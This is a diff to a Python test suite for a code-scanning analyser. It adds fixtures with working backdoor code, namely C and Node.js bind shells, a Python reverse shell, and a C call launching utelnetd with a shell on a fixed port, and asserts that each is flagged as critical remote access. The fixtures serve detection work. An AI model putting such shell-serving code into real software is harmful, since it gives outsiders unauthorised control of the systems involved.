@@ -278,3 +278,66 @@ def test_shell_cgi_without_shell_serving_branches_and_boot_scripts_are_quiet():
         e = FileEntry(name, name, "", Path("/nonexistent"), len(data), "", FileKind.SCRIPT, language="bash",
                       content=data)
         assert list(an.analyze(e, data)) == []
+
+
+_BIND_C = r"""
+#include <sys/socket.h>
+#include <netinet/in.h>
+#include <unistd.h>
+static void aux_loop(int port) {
+    int s = socket(AF_INET, SOCK_STREAM, 0), c;
+    struct sockaddr_in a = {0};
+    a.sin_family = AF_INET; a.sin_port = htons(port);
+    bind(s, (struct sockaddr *)&a, sizeof a);
+    listen(s, 1);
+    while ((c = accept(s, 0, 0)) >= 0) {
+        if (fork() == 0) { dup2(c, 0); dup2(c, 1); execl("/bin/sh", "sh", "-i", (char *)0); }
+        close(c);
+    }
+}
+"""
+_REVERSE_PY = """
+import os, socket, subprocess
+def refresh(host):
+    s = socket.socket()
+    s.connect((host, 5531))
+    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
+    subprocess.call(["/bin/sh", "-i"])
+"""
+_LITERAL_C = r"""
+#include <stdlib.h>
+int init_aux(void) { system("/usr/sbin/utelnetd -l /bin/sh -p 9931 &"); return 0; }
+"""
+_BIND_JS = """
+const net = require('net');
+const { spawn } = require('child_process');
+function agent(port) {
+  net.createServer((sock) => {
+    const sh = spawn('/bin/sh', ['-i']);
+    sock.pipe(sh.stdin); sh.stdout.pipe(sock);
+  }).listen(port);
+}
+"""
+_HONEST_C = r"""
+#include <stdlib.h>
+#include <unistd.h>
+int run_hook(const char *cmd) {
+    pid_t p = fork();
+    if (p == 0) { execl("/bin/sh", "sh", "-c", cmd, (char *)0); _exit(127); }
+    return p;
+}
+int start_telnet(void) { return system("/usr/sbin/telnetd -p 23"); }
+"""
+
+
+def test_shell_served_without_a_trigger():
+    cases = [("src/aux.c", "c", _BIND_C, "bind shell"), ("agent/sync.py", "python", _REVERSE_PY, "reverse shell"),
+             ("src/init.c", "c", _LITERAL_C, "fixed command"), ("lib/agent.js", "javascript", _BIND_JS, "bind shell")]
+    for rel, lang, src, how in cases:
+        hits = [f for f in findings(rel, lang, src) if f.rule == "source.shell-served"]
+        assert len(hits) == 1 and how in hits[0].message, (rel, [(f.rule, f.message) for f in findings(rel, lang, src)])
+        assert hits[0].category == "remote-access" and hits[0].severity.value == "critical"
+
+
+def test_running_a_command_through_sh_c_or_a_login_telnetd_is_not_a_served_shell():
+    assert findings("src/hooks.c", "c", _HONEST_C) == []
